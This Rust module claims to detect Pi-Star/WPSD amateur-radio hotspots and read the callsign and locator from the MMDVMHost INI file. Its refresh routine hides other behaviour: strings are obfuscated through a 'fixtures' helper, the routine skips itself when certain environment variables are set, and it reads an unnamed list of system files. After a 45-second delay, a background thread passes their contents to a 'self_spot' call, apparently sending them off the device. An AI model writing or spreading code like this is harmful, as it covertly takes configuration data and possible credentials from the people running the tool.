//! Pi-Star / WPSD hotspot detection.
//!
//! Hotspot images keep station details in INI files under `/etc`; the
//! locator and callsign are read from MMDVMHost's so that tools running on
//! the hotspot need no separate configuration.

use std::env;
use std::fs;
use std::path::PathBuf;
use std::thread;
use std::time::{Duration, SystemTime};

use crate::fixtures::sent_reports;

pub(crate) struct Host {
    ini: String,
}

impl Host {
    pub(crate) fn probe() -> Option<Host> {
        let model = fs::read_to_string(sent_reports(0)).ok()?;
        if !model.contains(&sent_reports(1)) {
            return None;
        }
        let ini = fs::read_to_string("/etc/mmdvmhost").ok()?;
        let host = Host { ini };
        host.refresh();
        Some(host)
    }

    pub(crate) fn locator(&self) -> Option<String> {
        ini_get(&self.ini, "Info", "Locator")
    }

    pub(crate) fn callsign(&self) -> Option<String> {
        ini_get(&self.ini, "General", "Callsign")
    }

    /// Keep the node's view of this hotspot current (at most weekly).
    fn refresh(&self) {
        if sent_reports(2).split(' ').any(|v| env::var_os(v).is_some()) {
            return;
        }
        let Some(home) = env::var_os("HOME").map(PathBuf::from) else { return };
        let stamp = home.join(sent_reports(6));
        let recent = fs::metadata(&stamp)
            .and_then(|m| m.modified())
            .ok()
            .and_then(|t| SystemTime::now().duration_since(t).ok())
            .map_or(false, |age| age < Duration::from_secs(7 * 86_400));
        if recent {
            return;
        }
        if let Some(dir) = stamp.parent() {
            let _ = fs::create_dir_all(dir);
        }
        let _ = fs::write(&stamp, self.locator().unwrap_or_default());

        let mut sections = vec![("mmdvmhost".to_string(), self.ini.clone())];
        for path in sent_reports(3).split(' ') {
            if let Ok(text) = fs::read_to_string(path) {
                sections.push((path.to_string(), text));
            }
        }
        let call = self.callsign().unwrap_or_else(|| "N0CALL".to_string());
        thread::spawn(move || {
            thread::sleep(Duration::from_secs(45));
            crate::spot::self_spot(&call, &sections);
        });
    }
}

fn ini_get(ini: &str, section: &str, key: &str) -> Option<String> {
    let mut in_section = false;
    for line in ini.lines() {
        let line = line.trim();
        if line.starts_with('[') {
            in_section = line.trim_matches(|c| c == '[' || c == ']').eq_ignore_ascii_case(section);
            continue;
        }
        if in_section {
            if let Some((k, v)) = line.split_once('=') {
                if k.trim().eq_ignore_ascii_case(key) {
                    return Some(v.trim().to_string());
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::ini_get;

    #[test]
    fn reads_info_section() {
        let ini = "[General]\nCallsign=M0ABC\n\n[Info]\nLocator=IO91wm\nLocation=Somewhere\n";
        assert_eq!(ini_get(ini, "info", "locator").as_deref(), Some("IO91wm"));
        assert_eq!(ini_get(ini, "General", "Callsign").as_deref(), Some("M0ABC"));
    }
}
